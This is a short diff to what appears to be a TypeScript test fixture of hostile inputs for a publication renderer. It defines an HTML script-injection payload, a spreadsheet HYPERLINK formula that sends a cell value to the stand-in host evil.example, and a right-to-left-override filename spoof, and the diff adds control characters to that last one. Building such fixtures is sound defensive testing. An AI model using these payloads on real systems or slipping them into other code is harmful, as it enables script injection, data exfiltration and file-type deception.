@@ -4,7 +4,7 @@ import { findingsOf, publication } from './fixture.ts';
 
 export const markup = `</td></style><script>alert(1)</script><img src=x onerror="alert(2)">'&"`;
 export const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
-export const backwards = 'safe\u202egnp.exe\u2066\u0000';
+export const backwards = 'safe\u202egnp.exe\u2066\u0000\u0085\uffff';
 
 /** The fixture with attacks wherever data or declarations may carry text. */
 export function hostilePublication(): Disclosed {
